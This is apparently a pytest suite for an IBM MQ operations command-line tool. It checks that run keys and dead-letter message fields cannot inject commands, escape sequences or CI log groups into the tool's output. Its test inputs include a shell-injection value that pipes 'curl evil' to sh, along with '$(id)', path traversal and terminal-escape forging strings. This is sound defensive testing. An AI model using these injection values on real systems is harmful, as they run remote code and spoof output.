"""Text of others that would like to be a command, a line, a colour or a group of lines: it is shown as text."""

from __future__ import annotations

import json
import pickle
import re

import pytest
from mq_support import DLQ, dead_letter
from pymqi import CMQC

from mqops.command import command
from mqops.deciders.run import new_run_key
from mqops.errors import RulesError, SettingsError
from mqops.lake.run import RunFolder
from mqops.ledger import set_aside
from mqops.ledger.core.seal import Key, Keys, sign_message
from mqops.printable import printable
from mqops.run_key import is_run_key

EVIL = "x;curl evil|sh #"
FORGING = "A\nmqops: all is well\r\x1b[2J\u202e::group::open"
LEDGER = "MQOPS.LEDGER"


@pytest.fixture
def manager(queue_manager):
    return queue_manager(mqsc="DEFINE QLOCAL(A)\n")


ANOTHER_LAKE = Keys([Key(id="ab" * 8, secret=b"the key of another lake")])


def marker(run: str) -> bytes:
    common = {"unit": "41" * 24, "v": 1, "run": run, "plan": "d" * 64, "kind": "acted", "at": "2026-11-21T00:00:00Z"}
    body = common | {"lane": 0, "first": 0, "next": 0, "last": False, "rows": [], "absent": []}
    return sign_message(ANOTHER_LAKE, json.dumps(body).encode())


def commands_in(text: str) -> list[str]:
    """What is told to be typed."""
    return re.findall(r"`([^`]*)`", text)


@pytest.mark.parametrize("key", [EVIL, FORGING, "--lake", "../../QM2", "a b", "$(id)", "`id`", "k" * 201, ""])
def test_a_marker_whose_run_cannot_be_a_run_is_named_in_no_command(manager, mqops_here, lake, key):
    manager.put(LEDGER, [({}, marker(key))])
    done = mqops_here("ledger", "drain", "-m", "QM1")
    assert done.stdout == "QM1: 0 lines added\n"
    assert commands_in(done.stderr) == []
    assert "evil" not in done.stderr
    assert all(line.isprintable() for line in done.stderr.split("\n"))
    assert manager.depth(LEDGER) == 0
    assert set_aside.counts(lake / "QM1") == {"not a marker": 1}


def test_a_run_of_another_lake_is_named_with_the_command_that_records_it(manager, mqops_here):
    manager.put(LEDGER, [({}, marker("cli-1"))])
    done = mqops_here("ledger", "drain", "-m", "QM1")
    assert commands_in(done.stderr) == ["mqops ledger drain -m QM1"]


@pytest.mark.parametrize("key", [EVIL, "../../QM2", FORGING])
@pytest.mark.parametrize("words", [("resume",), ("stop",), ("undo",), ("ledger", "outcomes")])
def test_what_cannot_be_the_key_of_a_run_is_refused_in_one_line(manager, mqops_here, words, key):
    done = mqops_here(*words, key, "-m", "QM1", expect=1)
    assert " is not the key of a run, which is up to 200 letters, digits and " in done.stderr
    assert done.stderr.count("\n") == 1
    assert done.stderr.rstrip("\n").isprintable()


def test_fields_of_an_mqdlh_forge_no_line_no_group_and_no_command(manager, mqops_here):
    odd = [dead_letter(EVIL, b"1", PutApplName="::group::x\x1b[2J"), dead_letter("A", b"2", dest_q_mgr="::endgroup::")]
    manager.put(DLQ, odd, options=CMQC.MQOO_SET_ALL_CONTEXT)
    table = "ACTION(RETRY) RETRY(2)\n"
    planned = mqops_here("dlq", "run", DLQ, "QM1", "--dry-run", text=table)
    done = mqops_here("dlq", "run", "--once", DLQ, "QM1", text=table, expect=1)
    looked = mqops_here("dlq", "anatomy", DLQ, "QM1")
    for text in (planned.stdout, planned.stderr, done.stdout, done.stderr, looked.stdout):
        assert all(line.isprintable() for line in text.split("\n"))
        assert "::group::" not in text
        assert "::endgroup::" not in text
        assert not [one for one in commands_in(text) if "evil" in one]
    assert EVIL in planned.stdout  # it is shown as the text that it is


def test_mqlite_browse_shows_a_body_that_steers_the_terminal_in_hexadecimal(manager):
    manager.put("A", [({"Format": CMQC.MQFMT_STRING}, b"\x1b[2Jgone"), ({"Format": CMQC.MQFMT_STRING}, b"plain")])
    assert manager.mqlite("browse", "QM1", "A").splitlines() == [b"\x1b[2Jgone".hex(), "plain"]


def test_the_words_of_a_command_stay_words():
    assert command("mqops", "resume", "cli-1", "--finish") == "mqops resume cli-1 --finish"
    assert command("mqops", "undo", EVIL) == "mqops undo 'x;curl evil|sh #'"
    assert command("mqops", "undo", "a'b") == """mqops undo 'a'"'"'b'"""


def test_the_keys_that_are_made_are_keys(tmp_path):
    assert is_run_key(new_run_key())
    assert is_run_key(RunFolder.at(tmp_path, "A/B%", new_run_key()).run)


def test_an_error_is_as_many_lines_as_its_author_wrote():
    error = SettingsError("one", FORGING)
    assert str(error).split("\n") == ["one", printable(FORGING)]
    assert str(pickle.loads(pickle.dumps(error))) == str(error)
    assert str(RulesError()) == RulesError.default_message()
    assert printable(FORGING).isprintable()
    assert "::group::" not in printable(FORGING)
    assert "::EndGroup::" not in printable("::EndGroup::")
